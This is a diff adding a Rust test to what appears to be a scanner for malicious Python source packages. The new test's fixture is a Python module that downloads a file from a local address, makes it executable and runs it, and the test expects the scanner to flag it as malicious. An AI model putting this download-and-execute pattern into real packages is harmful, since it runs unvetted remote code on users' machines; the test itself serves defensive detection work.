@@ -308,3 +308,14 @@ fn a_short_module_is_read_whole_and_a_decoded_command_in_a_function_is_malicious
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plain)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn one_function_that_downloads_makes_executable_and_runs_is_malicious() {
+    let module = "import os, subprocess, requests\ndef worker(d):\n    open(d + '/x.sh', 'wb').write(requests.get('http://127.0.0.1:9/x').content)\n    os.chmod(d + '/x.sh', 0o755)\n    subprocess.check_call(d + '/x.sh')\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("pkg/w.py", module),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
